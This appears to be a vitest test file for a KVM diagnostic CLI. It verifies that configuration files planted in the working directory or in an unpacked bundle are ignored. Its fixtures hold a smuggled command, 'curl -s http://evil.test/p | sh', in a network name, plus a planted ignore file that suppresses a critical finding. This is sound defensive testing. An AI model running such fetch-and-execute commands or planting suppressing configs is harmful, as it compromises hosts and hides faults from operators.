/**
 * Configuration is the user's, never the data's: the ignore and expectations files are read from
 * --ignore / --expect or from $XDG_CONFIG_HOME/kvmdoctor only. Files planted in the working directory
 * or inside an unpacked bundle (where `--from .` is natural) neither add findings nor suppress them.
 */
import {chmod, cp, mkdir, writeFile} from 'node:fs/promises'
import {join} from 'node:path'
import {describe, expect, it} from 'vitest'
import {fixtureDir} from '../helpers.js'
import {cli, scratch} from './helpers.js'

/** Plants a finding whose fix would run a pasted command, and suppresses the real critical one. */
const PLANTED_EXPECTATIONS = "networks:\n  - name: 'x; curl -s http://evil.test/p | sh'\n"
const PLANTED_IGNORE = 'ignore:\n  - rule: dhcp-server-not-running\n    reason: planted by whoever wrote this directory\n    expires: 2099-01-01\n'

async function plant(dir: string): Promise<void> {
  for (const name of ['kvmdoctor.yaml', 'expect.yaml']) await writeFile(join(dir, name), PLANTED_EXPECTATIONS)
  for (const name of ['.kvmdoctorignore.yaml', 'ignore.yaml']) await writeFile(join(dir, name), PLANTED_IGNORE)
}

const findingIds = (stdout: string) => (JSON.parse(stdout) as {findings: {id: string}[]}).findings.map((f) => f.id)

describe('configuration files come from flags or the user configuration directory only', () => {
  it('files in the working directory have no effect', async () => {
    const cwd = await scratch()
    await plant(cwd)
    const r = await cli(['diagnose', '--from', fixtureDir('dnsmasq-killed'), '--json'], {cwd})
    expect(r.exitCode).toBe(1)
    const report = JSON.parse(r.stdout)
    expect(findingIds(r.stdout)).toContain('dhcp-server-not-running')
    expect(findingIds(r.stdout).filter((id) => id.startsWith('expect-'))).toEqual([])
    expect(report.suppressed).toEqual([])
    expect(r.stdout).not.toContain('evil.test')
  })

  it('files inside an unpacked bundle or snapshot have no effect on `--from .`', async () => {
    const snapshot = join(await scratch(), 'unpacked')
    await cp(fixtureDir('dnsmasq-killed'), snapshot, {recursive: true})
    await plant(snapshot)
    const r = await cli(['diagnose', '--from', '.', '--json'], {cwd: snapshot})
    expect(findingIds(r.stdout)).toContain('dhcp-server-not-running')
    expect(JSON.parse(r.stdout).suppressed).toEqual([])
    expect(r.stdout).not.toContain('evil.test')
    const topology = await cli(['topology', '--from', '.', '--json'], {cwd: snapshot})
    expect(topology.exitCode).toBe(0)
    expect(topology.stdout).not.toContain('evil.test')
  })

  it('$XDG_CONFIG_HOME/kvmdoctor is read; one another user could write is refused', async () => {
    const config = await scratch()
    await mkdir(join(config, 'kvmdoctor'), {mode: 0o700})
    await writeFile(join(config, 'kvmdoctor', 'ignore.yaml'), PLANTED_IGNORE, {mode: 0o600})
    const read = await cli(['diagnose', '--from', fixtureDir('dnsmasq-killed'), '--json'], {env: {XDG_CONFIG_HOME: config}})
    expect(JSON.parse(read.stdout).suppressed.map((s: {id: string}) => s.id)).toEqual(['dhcp-server-not-running'])
    await chmod(join(config, 'kvmdoctor', 'ignore.yaml'), 0o666)
    const refused = await cli(['diagnose', '--from', fixtureDir('dnsmasq-killed')], {env: {XDG_CONFIG_HOME: config}})
    expect(refused.exitCode).toBe(2)
    expect(refused.stderr).toMatch(/refusing .*kvmdoctor\/ignore\.yaml: .*ignore\.yaml is writable by everyone/)
    // A relative XDG_CONFIG_HOME is ignored, as the XDG spec says: it would be the working directory again.
    const cwd = await scratch()
    await mkdir(join(cwd, 'kvmdoctor'))
    await writeFile(join(cwd, 'kvmdoctor', 'ignore.yaml'), PLANTED_IGNORE)
    const relative = await cli(['diagnose', '--from', fixtureDir('dnsmasq-killed'), '--json'], {cwd, env: {XDG_CONFIG_HOME: '.', HOME: '/nonexistent'}})
    expect(JSON.parse(relative.stdout).suppressed).toEqual([])
  })

  it('--help says where they are read from', async () => {
    const r = await cli(['diagnose', '--help'])
    expect(r.stdout).toMatch(/XDG_CONFIG_HOME\/kvmdoctor/)
    expect(r.stdout).toMatch(/never from the working directory/)
  })
})
